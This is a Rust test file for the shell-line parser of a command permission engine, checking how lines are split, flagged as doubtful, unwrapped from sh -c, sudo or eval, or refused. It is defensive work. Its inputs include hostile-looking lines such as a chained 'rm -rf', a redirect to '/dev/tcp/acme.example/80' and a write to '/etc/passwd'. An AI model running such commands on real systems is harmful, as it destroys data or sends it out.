//! Hostile command lines, each with its parts.

use std::fmt::Write as _;

use bailiwick_engine::permission::{Action, CommandLine, Part};
use expect_test::{Expect, expect};

use super::table::check_patterns;

pub fn check(lines: &[&str], expected: &Expect) {
    let mut table = String::new();
    for line in lines {
        let _infallible = write!(table, "{} =>", line.escape_debug());
        match CommandLine::read(line) {
            Ok(CommandLine { parts, doubt }) => {
                for part in parts {
                    let _infallible = match part {
                        Part::Command(resource) => write!(table, " [{}]", resource.as_str()),
                        Part::Script(resource) => write!(table, " script [{}]", resource.as_str()),
                        Part::Beginning(resource) => {
                            write!(table, " begins [{}]", resource.as_str())
                        }
                        Part::Wrapping(resource) => {
                            write!(table, " wraps [{}]", resource.as_str())
                        }
                        Part::File(action, path) => write!(table, " {action} [{path}]"),
                    };
                }
                let _infallible = match doubt {
                    Some(doubt) => writeln!(table, " {doubt:?}"),
                    None => writeln!(table),
                };
            }
            Err(refusal) => _ = writeln!(table, " refused: {refusal}"),
        }
    }
    expected.assert_eq(&table);
}

const SPLIT: &[&str] = &[
    "git  push\torigin",
    "'git' \"push\" o\\rigin",
    "g\\it pu''sh",
    "git push;rm -rf x",
    "a && b || c | d & e",
    "a\nb\n",
    "a \\\n b",
    "a b\\\nc \"d\\\ne\"",
    "(cd x; ls)",
    "echo 'a;b' \"c&&d\" e\\|f",
    "echo '' \"\"",
    "echo it\\'s",
    "a >out 2>>err <in 2>&1",
    "a <>both >|over",
    "a 2>/dev/null",
    "> empty",
    "a > '~/x'",
    "a > ~/x",
    "find . -exec rm {} \\;",
    "[ -f x ]",
];

#[test]
fn lines_are_split_as_shells_split_them() {
    check(
        SPLIT,
        &expect![[r#"
            git  push\torigin => [git push origin]
            \'git\' \"push\" o\\rigin => [git push origin]
            g\\it pu\'\'sh => [git push]
            git push;rm -rf x => [git push] [rm -rf x]
            a && b || c | d & e => [a] [b] [c] [d] [e]
            a\nb\n => [a] [b]
            a \\\n b => [a b]
            a b\\\nc \"d\\\ne\" => [a bc de]
            (cd x; ls) => [cd x] [ls]
            echo \'a;b\' \"c&&d\" e\\|f => [echo 'a;b' 'c&&d' 'e|f']
            echo \'\' \"\" => [echo '' '']
            echo it\\\'s => [echo 'it'\''s']
            a >out 2>>err <in 2>&1 => write [out] write [err] read [in] [a]
            a <>both >|over => read [both] write [both] write [over] [a]
            a 2>/dev/null => [a]
            > empty => write [empty]
            a > \'~/x\' => write [./~/x] [a]
            a > ~/x => write [~/x] [a] Expansion
            find . -exec rm {} \\; => [find . -exec rm '{}' ';'] begins [rm]
            [ -f x ] => ['[' -f x ']']
        "#]],
    );
}

const DOUBTFUL: &[&str] = &[
    "rm $X",
    "rm \"${X:-a b}\"",
    "rm '$X'",
    "rm \\$X",
    "rm *.txt",
    "rm '*'.txt",
    "rm ~/x",
    "rm {a,b}",
    "echo $(rm x; ls)",
    "echo \"$(rm 'x')\" `ls \\`pwd\\``",
    "echo $((1+$(ls)))",
    "diff <(ls a) <(ls b)",
    "PATH=. ls",
    "A=b",
    "if a; then b; else c; fi",
    "for x in a b; do rm $x; done",
    "while a; do b; done",
    "case x in a|b) rm x;; esac",
    "case x in (a|b) rm x;; (c) ls;; esac",
    "(case x in a) rm x;; esac)",
    "! rm x",
    "{ rm x; }",
    "f() { rm x; }; f",
    "function f { rm x; }",
    "function f() { rm x; }; f",
    "time rm x",
    "eval \"rm x\"",
    "alias ls=rm",
    "exec rm x",
    ". ./file",
    "cat <<E\n$(rm x)\nit's\nE\nls",
    "cat <<'E'\n$(rm x)\nE\nls",
    "sh <<E\nrm x\nE",
    "cat <<<x",
    "bash <<<'rm x'",
    "a &>f b",
    "a >&f",
    "a 10>f",
    "a > /dev/tcp/acme.example/80",
    "cd /etc; a > passwd",
    "ls # x; rm y",
    "$'r\\'m' x",
];

#[test]
fn what_is_not_known_before_a_line_runs_is_in_doubt() {
    check(
        DOUBTFUL,
        &expect![[r#"
            rm $X => [rm '$X'] Expansion
            rm \"${X:-a b}\" => [rm '${X:-a b}'] Expansion
            rm \'$X\' => [rm '$X']
            rm \\$X => [rm '$X']
            rm *.txt => [rm '*.txt'] Expansion
            rm \'*\'.txt => [rm '*.txt']
            rm ~/x => [rm '~/x'] Expansion
            rm {a,b} => [rm '{a,b}'] Expansion
            echo $(rm x; ls) => [rm x] [ls] [echo '$(rm x; ls)'] Substitution
            echo \"$(rm \'x\')\" `ls \\`pwd\\`` => [rm x] [pwd] [ls '`pwd`'] [echo '$(rm '\''x'\'')' '`ls \`pwd\``'] Substitution
            echo $((1+$(ls))) => [ls] [echo '$((1+$(ls)))'] Expansion
            diff <(ls a) <(ls b) => [ls a] [ls b] [diff] Substitution
            PATH=. ls => [ls] Assignment
            A=b => refused: it names nothing
            if a; then b; else c; fi => [a] [b] [c] Keyword
            for x in a b; do rm $x; done => [rm '$x'] Keyword
            while a; do b; done => [a] [b] Keyword
            case x in a|b) rm x;; esac => [rm x] Keyword
            case x in (a|b) rm x;; (c) ls;; esac => [rm x] [ls] Keyword
            (case x in a) rm x;; esac) => [rm x] Keyword
            ! rm x => [rm x] Keyword
            { rm x; } => [rm x] Keyword
            f() { rm x; }; f => [rm x] [f] Function
            function f { rm x; } => [rm x] Keyword
            function f() { rm x; }; f => [rm x] [f] Keyword
            time rm x => ['time' rm x] Keyword
            eval \"rm x\" => [eval 'rm x'] script [rm x] Builtin
            alias ls=rm => [alias ls=rm] Builtin
            exec rm x => [exec rm x] Builtin
            . ./file => [. ./file] Builtin
            cat <<E\n$(rm x)\nit\'s\nE\nls => [cat] [rm x] [ls] HereDocument
            cat <<\'E\'\n$(rm x)\nE\nls => [cat] script [rm x] script ['$(rm x)'] [ls] HereDocument
            sh <<E\nrm x\nE => [sh] script [rm x] HereDocument
            cat <<<x => script [x] [cat] HereDocument
            bash <<<\'rm x\' => script [rm x] [bash] HereDocument
            a &>f b => [a] write [f] [b] Redirect
            a >&f => write [f] [a] Redirect
            a 10>f => write [f] [a] Redirect
            a > /dev/tcp/acme.example/80 => write [/dev/tcp/acme.example/80] [a] Redirect
            cd /etc; a > passwd => [cd /etc] write [passwd] [a] Redirect
            ls # x; rm y => [ls] Comment
            $\'r\\\'m\' x => ['$'\''r\'\''m'\''' x] Expansion
        "#]],
    );
}

const WRAPPED: &[&str] = &[
    "env A=b rm x",
    "sudo -u root rm x",
    "xargs rm",
    "sh -c 'rm x; ls > f'",
    "sudo bash -lc 'rm x' name",
    "sh -c \"rm 'x\"",
    "bash -o errexit -c 'rm x'",
    "env -S 'rm x'",
    "env -S 'rm -f' 'a b' -r",
    "eval rm x",
    "sh -c \"sh -c 'rm x'\"",
    "bash -c -o errexit -o pipefail 'rm x'",
    "su -c'rm x' root",
    "fish --command='rm x'",
    "script -qc 'rm x' /dev/null",
    "flock lock -c 'rm x'",
    "env -iS 'rm x'",
    "env --split='rm x'",
    "compgen -C 'rm x'",
    "sh -c '$(echo rm) x'",
];

#[test]
fn scripts_in_arguments_are_looked_into() {
    check(
        WRAPPED,
        &expect![[r#"
            env A=b rm x => [env A=b rm x]
            sudo -u root rm x => [sudo -u root rm x]
            xargs rm => [xargs rm] begins [rm]
            sh -c \'rm x; ls > f\' => [sh -c 'rm x; ls > f'] script [rm x] write [f] script [ls]
            sudo bash -lc \'rm x\' name => [sudo bash -lc 'rm x' name] script [name] script [rm x]
            sh -c \"rm \'x\" => [sh -c 'rm '\''x'] Script
            bash -o errexit -c \'rm x\' => [bash -o errexit -c 'rm x'] script [rm x]
            env -S \'rm x\' => [env -S 'rm x'] script [rm x]
            env -S \'rm -f\' \'a b\' -r => [env -S 'rm -f' 'a b' -r] script [rm -f] script [rm -f 'a b' -r]
            eval rm x => [eval rm x] script [rm x] Builtin
            sh -c \"sh -c \'rm x\'\" => [sh -c 'sh -c '\''rm x'\'''] script [sh -c 'rm x'] script [rm x]
            bash -c -o errexit -o pipefail \'rm x\' => [bash -c -o errexit -o pipefail 'rm x'] script [errexit] script [pipefail] script [rm x]
            su -c\'rm x\' root => [su '-crm x' root] script [rm x] script [root]
            fish --command=\'rm x\' => [fish '--command=rm x'] script [rm x]
            script -qc \'rm x\' /dev/null => [script -qc 'rm x' /dev/null] script [/dev/null] script [rm x]
            flock lock -c \'rm x\' => [flock lock -c 'rm x'] script [rm x]
            env -iS \'rm x\' => [env -iS 'rm x'] script [rm x]
            env --split=\'rm x\' => [env '--split=rm x'] script [rm x]
            compgen -C \'rm x\' => [compgen -C 'rm x'] Builtin
            sh -c \'$(echo rm) x\' => [sh -c '$(echo rm) x'] script [echo rm] script ['$(echo rm)' x] Substitution
        "#]],
    );
}

const REFUSED: &[&str] = &[
    "", " ", ";", "rm 'x", "rm \"x", "rm \\", "(rm x", "a >", "a $(b", "a `b", "a ${b", "a\u{1}b",
];

#[test]
fn lines_that_come_to_no_end_are_refused() {
    check(
        REFUSED,
        &expect![[r#"
         => refused: it names nothing
          => refused: it names nothing
        ; => refused: it names nothing
        rm \'x => refused: a quote, parenthesis or redirect comes to no end
        rm \"x => refused: a quote, parenthesis or redirect comes to no end
        rm \\ => refused: a quote, parenthesis or redirect comes to no end
        (rm x => refused: a quote, parenthesis or redirect comes to no end
        a > => refused: a quote, parenthesis or redirect comes to no end
        a $(b => refused: a quote, parenthesis or redirect comes to no end
        a `b => refused: a quote, parenthesis or redirect comes to no end
        a ${b => refused: a quote, parenthesis or redirect comes to no end
        a\u{1}b => refused: it holds a NUL character
    "#]],
    );
}

const PATTERNS: &[&str] = &[
    "**",
    "git  push  **",
    "'git' \"push\" o\\*",
    "git push ** **",
    "echo '' 'a b' it\\'s",
    "--*=x",
    " ",
    "git; ls",
    "git | ls",
    "git > x",
    "git $X",
    "git \"$X\"",
    "git 'x",
    "git x\\",
    "git x?",
    "git [x]",
    "git x**",
    "git ***",
    "A=b git",
    "'A=b' git",
    "if x",
];

#[test]
fn command_patterns_have_one_spelling_or_a_place_that_is_wrong() {
    check_patterns(
        Action::Run,
        PATTERNS,
        &expect![[r#"
        ** => **
        git  push  ** => git push **
        \'git\' \"push\" o\\* => git push 'o*'
        git push ** ** => git push **
        echo \'\' \'a b\' it\\\'s => echo '' 'a b' 'it'\''s'
        --*=x => --*=x
          => at ` `: the pattern has no words; write `**` for every command
        git; ls => at `;`: a pattern is one simple command; write `';'` for the sign itself
        git | ls => at `|`: a pattern is one simple command; write `'|'` for the sign itself
        git > x => at `>`: a redirect is asked for as `read` or `write` of its file; write `'>'` for the sign itself
        git $X => at `$`: nothing is put in place of variables here; put it between `'` for the sign itself
        git \"$X\" => at `$`: nothing is put in place of variables here; put it between `'` for the sign itself
        git \'x => at `'`: nothing closes this `'`; write `\'` for the sign itself
        git x\\ => at `\`: nothing follows this `\`; write `\\` for the sign itself
        git x? => at `?`: only `*` and `**` are wildcards of commands; write `'?'` for the sign itself
        git [x] => at `[`: only `*` and `**` are wildcards of commands; write `'['` for the sign itself
        git x** => at `**`: `**` stands only for whole words; write `*` for a part of a word, `**` for whole ones
        git *** => at `***`: `**` stands only for whole words; write `*` for a part of a word, `**` for whole ones
        A=b git => at `A=b`: a variable that is set is no part of a command; take it away: a command with one in front is asked at best
        \'A=b\' git => 'A=b' git
        if x => at `if`: a word of the shell's own is no command; write `'if'` for a program of this name
    "#]],
    );
}
